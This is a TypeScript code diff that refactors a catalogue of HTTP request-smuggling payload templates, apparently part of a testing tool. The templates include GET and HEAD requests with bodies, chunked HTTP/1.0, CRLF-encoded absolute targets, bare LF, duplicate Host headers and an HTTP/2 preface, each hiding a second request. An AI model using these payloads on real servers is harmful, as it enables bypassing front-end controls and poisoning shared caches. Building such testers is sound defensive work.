@@ -69,41 +69,24 @@ const chunkedBodies: readonly ((hidden: string) => string)[] = [
 ];
 
 /** Other ways to be understood in two ways. */
-const others: readonly Attack[] = [
-  {
-    title: 'a GET with a body',
-    text: (hidden) =>
-      `GET /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
-  },
-  {
-    title: 'a HEAD with a body',
-    text: (hidden) =>
-      `HEAD /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
-  },
-  {
-    title: 'chunks of HTTP/1.0',
-    text: (hidden) =>
-      `POST /nothing HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
-  },
-  {
-    title: 'an absolute target of another host',
-    text: (hidden) => `GET http://other/nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
-  },
-  {
-    title: 'an absolute target with a line in it',
-    text: (hidden) =>
-      `GET http://a/%0d%0a%0d%0a${encodeURIComponent(hidden)} HTTP/1.1\r\n${host}\r\n`,
-  },
-  { title: 'HTTP/0.9 first', text: (hidden) => `GET /nothing\r\n${hidden}\r\n\r\n` },
-  { title: 'bare LF', text: (hidden) => `GET /nothing HTTP/1.1\nHost: a\n\n${hidden}` },
-  { title: 'empty lines first', text: (hidden) => `\r\n\r\n\n${hidden}\r\n\r\n` },
-  { title: 'two Hosts', text: (hidden) => `GET /nothing HTTP/1.1\r\n${host}${host}\r\n${hidden}` },
-  {
-    title: 'a request that goes on in the next',
-    text: (hidden) => `GET /nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
-  },
-  { title: 'HTTP/2', text: (hidden) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}` },
-];
+const others: Readonly<Record<string, Attack['text']>> = {
+  'a GET with a body': (hidden) =>
+    `GET /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
+  'a HEAD with a body': (hidden) =>
+    `HEAD /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
+  'chunks of HTTP/1.0': (hidden) =>
+    `POST /nothing HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
+  'an absolute target of another host': (hidden) =>
+    `GET http://other/nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
+  'an absolute target with a line in it': (hidden) =>
+    `GET http://a/%0d%0a%0d%0a${encodeURIComponent(hidden)} HTTP/1.1\r\n${host}\r\n`,
+  'HTTP/0.9 first': (hidden) => `GET /nothing\r\n${hidden}\r\n\r\n`,
+  'bare LF': (hidden) => `GET /nothing HTTP/1.1\nHost: a\n\n${hidden}`,
+  'empty lines first': (hidden) => `\r\n\r\n\n${hidden}\r\n\r\n`,
+  'two Hosts': (hidden) => `GET /nothing HTTP/1.1\r\n${host}${host}\r\n${hidden}`,
+  'a request that goes on in the next': (hidden) => `GET /nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
+  'HTTP/2': (hidden) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
+};
 
 /** Every attack that is known here. */
 export const attacks: readonly Attack[] = [
@@ -134,7 +117,7 @@ export const attacks: readonly Attack[] = [
     title: `chunks such as ${JSON.stringify(body('').slice(0, 40))}`,
     text: (hidden: string) => post('Transfer-Encoding: chunked', body(hidden)),
   })),
-  ...others,
+  ...Object.entries(others).map(([title, text]) => ({ title, text })),
 ].map(({ title, text }) => ({ title, text: (target) => text(hiddenRequest(target)) }));
 
 /** The maximum number of requests in a text: one for each request line. */
